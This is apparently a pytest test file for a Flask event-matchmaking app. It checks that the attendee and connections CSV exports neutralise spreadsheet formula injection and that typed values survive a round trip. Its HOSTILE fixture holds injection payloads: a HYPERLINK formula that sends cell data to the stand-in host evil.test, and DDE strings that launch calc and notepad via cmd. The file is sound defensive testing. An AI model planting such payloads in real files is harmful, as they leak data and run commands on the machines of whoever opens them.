"""Whatever attendees type, no cell of a CSV the app writes runs as a formula in a spreadsheet (OWASP:
a cell starting with = + - @, a tab or a carriage return gets a leading apostrophe), and the attendee
CSV still reads back as exactly what was typed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from matchmaker.db.models import Attendee, Meeting, MeetingFeedback, MeetingSource
from matchmaker.formats.attendee_csv import read_attendee_csv
from matchmaker.formats.spreadsheet import FORMULA_STARTS
from tests.factories import make_attendee, make_event
from tests.integration.attendee_support import attendee_with_link, csrf_client
from tests.integration.organiser_client import sign_in
from tests.organiser_data import make_organiser

HOSTILE = {
    "name": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job_title": "+cmd|' /C notepad'!A0",
    "offers": "-1-1",
    "seeks": "\t=1+1",
    "sector": "\r=1+1",
}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


def test_organiser_attendee_export_neutralises_formulas(client: FlaskClient, db_session: Session) -> None:
    event = make_event(db_session)
    make_attendee(db_session, event, email="eve@example.test", **HOSTILE)
    make_organiser(db_session, "org@example.test", event)
    db_session.commit()
    sign_in(client)

    response = client.get(f"/organiser/events/{event.slug}/attendees.csv")

    text = response.get_data(as_text=True)
    assert [cell for cell in _cells(text) if _runs_as_formula(cell)] == []
    assert "'=HYPERLINK(" in text
    assert "'-1-1" in text


def test_attendee_export_reads_back_as_what_was_typed(client: FlaskClient, db_session: Session) -> None:
    event = make_event(db_session)
    make_attendee(db_session, event, email="eve@example.test", external_id="e1", **HOSTILE)
    make_organiser(db_session, "org@example.test", event)
    db_session.commit()
    sign_in(client)

    text = client.get(f"/organiser/events/{event.slug}/attendees.csv").get_data(as_text=True)

    [record] = read_attendee_csv(io.StringIO(text)).records
    assert record.name == HOSTILE["name"]
    assert record.company == HOSTILE["company"]
    assert record.job_title == HOSTILE["job_title"]
    assert record.offers == HOSTILE["offers"]


@pytest.mark.parametrize("typed", ["'t Hooft", "plain", "O'Brien"])
def test_an_apostrophe_typed_by_a_person_survives_the_round_trip(typed: str) -> None:
    text = f"id,name,offers,seeks\na1,{typed},Cups,Coffee\n"

    [record] = read_attendee_csv(io.StringIO(text)).records

    assert record.name == typed


def _connected(session: Session) -> tuple[str, Attendee]:
    event = make_event(session)
    for slot in event.slots:  # the event is over: follow-ups are shown
        slot.start, slot.end = slot.start.replace(year=2020), slot.end.replace(year=2020)
    _anna, anna_page = attendee_with_link(session, event, name="Anna")
    eve, _ = attendee_with_link(session, event, email="eve@example.test", **HOSTILE)
    meeting = Meeting.between(
        _anna.id,
        eve.id,
        event_id=event.id,
        slot_id=event.slots[0].id,
        table_id=event.tables[0].id,
        source=MeetingSource.AUTO,
    )
    session.add(meeting)
    session.flush()
    session.add_all(
        [
            MeetingFeedback(
                meeting_id=meeting.id,
                attendee_id=person.id,
                took_place=True,
                wants_follow_up=True,
                created_at=datetime.now(UTC),
            )
            for person in (_anna, eve)
        ]
    )
    session.commit()
    return anna_page, eve


def test_connections_export_neutralises_formulas(app: Flask, db_session: Session) -> None:
    anna_page, _eve = _connected(db_session)

    text = csrf_client(app).get(f"{anna_page}/connections.csv").get_data(as_text=True)

    assert "HYPERLINK" in text
    assert [cell for cell in _cells(text) if _runs_as_formula(cell)] == []
